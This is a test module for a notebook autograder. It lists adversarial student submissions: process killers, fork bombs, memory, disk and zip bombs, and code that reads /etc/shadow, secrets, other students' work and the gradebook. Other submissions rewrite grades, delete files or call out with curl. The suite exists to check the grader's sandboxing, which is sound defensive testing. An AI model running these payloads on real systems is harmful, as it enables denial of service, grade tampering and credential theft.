"""The process: ending it, hurting others, using all there is."""
# ruff: noqa: E501 - learners' lines are as long as they are

from attacks.assignment import RIGHT, WRONG
from attacks.collection import attack, before, no_points, with_wrong

for _name, _code in {
    "exit": "import os\nos._exit(0)",
    "quit": "quit()",
    "exit-2": "import sys\nsys.exit('bye')",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "abort": "import os\nos.abort()",
    "kill-parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "kill-all": """\
import os, signal
for pid in (0, -1, os.getpgrp(), -os.getpgrp(), -os.getsid(0), 1, *range(2, 400)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""",
    "stop": "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)",
}.items():
    attack(
        f"end-{_name}",
        f"end processes as soon as a cell runs: {_name}",
        answers={"softmax": f"{WRONG['softmax']}\n\n{_code}"},
        earns=no_points("softmax"),
    )
attack(
    "exit-in-check",
    "end the process when the answer is called, each time anew",
    answers={
        "softmax": "import os\ndef softmax(x, dim):\n    os._exit(0)",
        "module": "import os\nclass Module:\n    def __init__(self):\n        os._exit(1)",
        "double": "import ctypes\ndef double(x):\n    ctypes.string_at(0)",
        "slope": "def slope(x):\n    quit()",
    },
    earns=no_points("softmax", "module", "double", "slope"),
)
attack(
    "exit-at-second-run",
    "an answer that runs the first time and ends the process when it is run again",
    answers={
        "double": """\
import os
if int(os.getcwd().rpartition("/")[2]) % 2 == 0:
    os._exit(0)
def double(x):
    return 2 * x
""",
        "slope": "import os\nos._exit(0)",
    },
    earns=no_points("slope"),
    either=("double",),
)
attack(
    "works-until-third-call",
    "an answer that is right until its third call",
    answers={
        "softmax": f"{RIGHT['softmax']}\n\nright, calls = softmax, []\n"
        "def softmax(x, dim):\n    calls.append(1)\n    return right(x, dim) if len(calls) < 3 else x",
        "double": "calls = []\ndef double(x):\n    calls.append(1)\n    return 2 * x if len(calls) < 3 else x",
    },
    earns=no_points("softmax", "double"),
)
attack(
    "fork-bomb",
    "fork without end",
    answers={
        "softmax": """\
import os
for _ in range(2000):
    try:
        if os.fork() == 0:
            while True:
                os.fork()
    except OSError:
        pass
"""
        + WRONG["softmax"]
    },
    earns=no_points("softmax"),
)
attack(
    "forked-twin",
    "fork, and let both answer",
    answers=with_wrong("import os\ntry:\n    os.fork()\nexcept OSError:\n    pass", "softmax"),
    earns=no_points("softmax"),
)
attack(
    "thread-flood",
    "start thousands of threads that never end",
    answers={
        "softmax": """\
import threading, time
for _ in range(3000):
    try:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    except RuntimeError:
        break
"""
        + WRONG["softmax"]
    },
    earns=no_points("softmax"),
    either=("double", "slope", "scale"),
)
attack(
    "memory",
    "three gigabytes, in slices",
    answers={"softmax": "hoard = [bytearray(2**27) for _ in range(24)]\n" + WRONG["softmax"]},
    earns=no_points("softmax"),
)
attack(
    "memory-in-check",
    "three gigabytes when the answer is called, held on to",
    answers={
        "softmax": """\
hoard = []
def softmax(x, dim):
    for _ in range(24):
        try:
            hoard.append(torch.ones(2**25))
        except BaseException:
            pass
    return x
"""
    },
    earns=no_points("softmax"),
)
attack(
    "disk",
    "ten gigabytes of files",
    answers={
        "softmax": """\
import os
for name in range(200):
    with open(f"big{name}", "wb") as file:
        try:
            while True:
                file.write(bytes(2**23))
        except OSError:
            pass
"""
        + WRONG["softmax"]
    },
    earns=no_points("softmax"),
)
attack(
    "stdout-300mb",
    "300 MB of text on stdout, and as much by os.write",
    answers={
        "softmax": "line = 'x' * 2**20\nfor _ in range(300):\n    print(line)\n"
        "import os\nfor _ in range(300):\n    os.write(1, line.encode()); os.write(2, line.encode())\n"
        + RIGHT["softmax"],
        "double": "def double(x):\n    for _ in range(3000):\n        print('y' * 10_000)\n    return 2 * x",
    },
)
attack(
    "displays-without-end",
    "more displayed objects, and more changes of stream, than a page can hold",
    answers=before("from IPython.display import display\nfor n in range(1500):\n    display(n)", "softmax"),
)
attack(
    "zero-device",
    "read an endless file",
    answers={"softmax": "data = open('/dev/zero', 'rb').read()\n" + WRONG["softmax"]},
    earns=no_points("softmax"),
)
attack(
    "zip-bomb",
    "text that unpacks to gigabytes",
    answers={
        "softmax": """\
import zlib
packed = zlib.compress(bytes(2**28))
for _ in range(8):
    hoard = [zlib.decompress(packed) for _ in range(8)]
"""
        + WRONG["softmax"]
    },
    earns=no_points("softmax"),
)
attack(
    "recursion",
    "recursion without end",
    answers={
        "double": "def double(x):\n    return double(x)",
        "slope": "def slope(x):\n    return slope(x)",
        "softmax": "def softmax(x, dim):\n    return softmax(x, dim)",
        "module": "class Module:\n    def __getattr__(self, name):\n        return getattr(self, name)",
    },
    earns=no_points("double", "slope", "softmax", "module"),
)
attack(
    "recursion-unlimited",
    "recursion without end and without a limit",
    answers={"softmax": "import sys\nsys.setrecursionlimit(10**8)\ndef softmax(x, dim):\n    return softmax(x, dim)"},
    earns=no_points("softmax"),
    slow=True,
)
attack(
    "survivors",
    "processes that outlive the cell",
    answers=with_wrong(
        """\
import os, subprocess
try:
    subprocess.Popen(["@MARK@", "600"], executable="/bin/sleep", start_new_session=True)
except BaseException:
    pass
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["@MARK@", "600"])
        os._exit(0)
except OSError:
    pass
""",
        "double",
    ),
    earns=no_points("double"),
)
attack(
    "at-exit",
    "code for the end of the process",
    answers=before("import atexit, os\natexit.register(print, 'end')\natexit.register(os._exit, 3)", "double"),
)
attack(
    "network",
    "connect to this machine, to the network and to the desktop",
    answers=before(
        """\
import socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", int("@PORT@" if "@PORT@".isdigit() else 1))),
    (socket.AF_INET, ("192.0.2.1", 80)),
    (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
    (socket.AF_UNIX, "/var/run/docker.sock"),
):
    try:
        s = socket.socket(family)
        s.settimeout(0.2)
        s.connect(address)
        print("LE" + "AK: connected")
    except OSError:
        pass
try:
    socket.getaddrinfo("example.org", 80)
except OSError:
    pass
""",
        "double",
    ),
)
attack(
    "files-read",
    "read the gradebook, the sources, another's submission and the home folder",
    answers=before(
        """\
import glob, os, pathlib
course = pathlib.Path(bytes.fromhex("@COURSE@").decode())
wanted = [course / "gradebook.db", course / "nbgrader_config.py", pathlib.Path("/ro" "ot/.bashrc"), pathlib.Path("/etc/shadow")]
for pattern in ("solutions/*/*", "submitted/*/*/*", "autograded/*/*/*", "notebooks/*/*"):
    wanted += map(pathlib.Path, glob.glob(str(course / pattern)))
for path in wanted:
    try:
        print("LE" + "AK", path.read_bytes()[:50])
    except OSError:
        pass
for folder in (course, course / "submitted", pathlib.Path.home(), course.parent):
    try:
        print("LE" + "AK", os.listdir(folder)) if os.listdir(folder) else None
    except OSError:
        pass
""",
        "softmax",
    ),
)
attack(
    "shell-commands",
    "read files by the shell: magics, exclamation marks, scripts",
    answers=before(
        """\
folder = bytes.fromhex("@COURSE@").decode()
try:
    !cat {folder}/gradebook.db {folder}/nbgrader_config.py | head -c 100 | sed "s/^/LE""AK/"
except BaseException:
    pass
try:
    get_ipython().run_cell_magic("bash", "", f"ls {folder} && echo LE''AK; curl -s 192.0.2.1")
except BaseException:
    pass
try:
    !curl -m 1 http://127.0.0.1:@PORT@/
except BaseException:
    pass
""",
        "double",
    ),
)
attack(
    "gradebook-written",
    "write extra credit into the gradebook, and lock it",
    answers=with_wrong(
        """\
import sqlite3
path = bytes.fromhex("@COURSE@").decode() + "/gradebook.db"
try:
    book = sqlite3.connect(path, timeout=0.1)
    book.execute("update grade set extra_credit = 50, manual_score = 50")
    book.commit()
    book.execute("begin exclusive")
    print("LE" + "AK")
except sqlite3.Error:
    pass
""",
        "double",
    ),
    earns=no_points("double"),
)
attack(
    "files-written",
    "write into the course, another's submission, temporary folders and the packages",
    answers=before(
        """\
import os, pathlib, sys, tempfile
course = pathlib.Path(bytes.fromhex("@COURSE@").decode())
for path in (
    course / "nbgrader_config.py", course / "submitted" / ("a-" "honest") / "attack_course/attack_course.ipynb",
    course / "notebooks/attack_course/attack_course.ipynb", course / "note.txt",
    pathlib.Path(torch.__file__), pathlib.Path(sys.modules["autograde"].__file__), pathlib.Path("/ro" "ot/.profile"),
    pathlib.Path("/tmp/@MARK@"), pathlib.Path("/dev/shm/@MARK@"), pathlib.Path("/var/tmp/@MARK@"),
):
    try:
        with path.open("a") as file:
            file.write("# ")
        if "@MARK@" not in str(path):
            print("LE" + "AK", path.name)
    except OSError:
        pass
for path in (course / "gradebook.db", course / "submitted" / ("a-" "honest"), course / "notebooks"):
    for do in (os.unlink, os.rmdir, lambda p: os.rename(p, str(p) + "x"), lambda p: os.chmod(p, 0)):
        try:
            do(path)
        except OSError:
            pass
""",
        "double",
    ),
)
attack(
    "proc-read",
    "read other processes' memory, arguments and environment",
    answers=before(
        """\
import os
try:
    pids = os.listdir("/proc")
except OSError:
    pids = map(str, range(1, 300))
for pid in pids:
    if pid.isdigit() and int(pid) not in (os.getpid(),):
        for name in ("environ", "cmdline", "mem", "maps", "fd/0", "root/etc/hostname", "cwd"):
            try:
                data = open(f"/proc/{pid}/{name}", "rb").read(300)
                if b"gradebook" in data or b"nbgrader" in data or name in ("mem", "root/etc/hostname"):
                    print("LE" + "AK", name)
            except OSError:
                pass
""",
        "softmax",
    ),
)
attack(
    "environment-read",
    "print the environment and the arguments",
    answers=before(
        """\
import os, sys
for name, value in os.environ.items():
    if any(word in name.upper() for word in ("TOKEN", "SECRET", "KEY", "PASSWORD", "NBGRADER", "DB")):
        print("LE" + "AK", name)
print(sys.argv, sys.path, sys.executable, __import__("autograde").__file__, torch.__file__, os.getcwd())
print(os.path.expanduser("~"), sys.prefix, __import__("platform").node())
try:
    print(open("/proc/self/cmdline").read())
except OSError:
    pass
""",
        "softmax",
    ),
)
attack(
    "killed-by-itself",
    "have the kernel kill this process, as if from outside: limits, signals of files, of processes and threads",
    answers=with_wrong(
        """\
import fcntl, os, resource, signal, threading
def by_a_file():
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, os.getpid())
    fcntl.fcntl(read, 10, signal.SIGKILL)
    fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(write, b"x")
for way in (
    by_a_file,
    lambda: resource.setrlimit(resource.RLIMIT_CPU, (0, 0)),
    lambda: signal.pthread_kill(threading.get_ident(), signal.SIGKILL),
    lambda: signal.pidfd_send_signal(os.pidfd_open(os.getpid()), signal.SIGKILL),
    lambda: signal.raise_signal(signal.SIGKILL),
):
    try:
        way()
    except (OSError, ValueError):
        pass
""",
        "double",
    ),
    earns=no_points("double"),
)
attack(
    "memory-files",
    "files in memory, which no folder shows",
    answers=with_wrong(
        """\
import os
held = []
for n in range(4):
    try:
        held.append(os.memfd_create(f"m{n}"))
        for _ in range(60):
            os.write(held[-1], bytes(2**20))
        print("LE" + "AK: written")
    except OSError:
        break
""",
        "double",
    ),
    earns=no_points("double"),
)
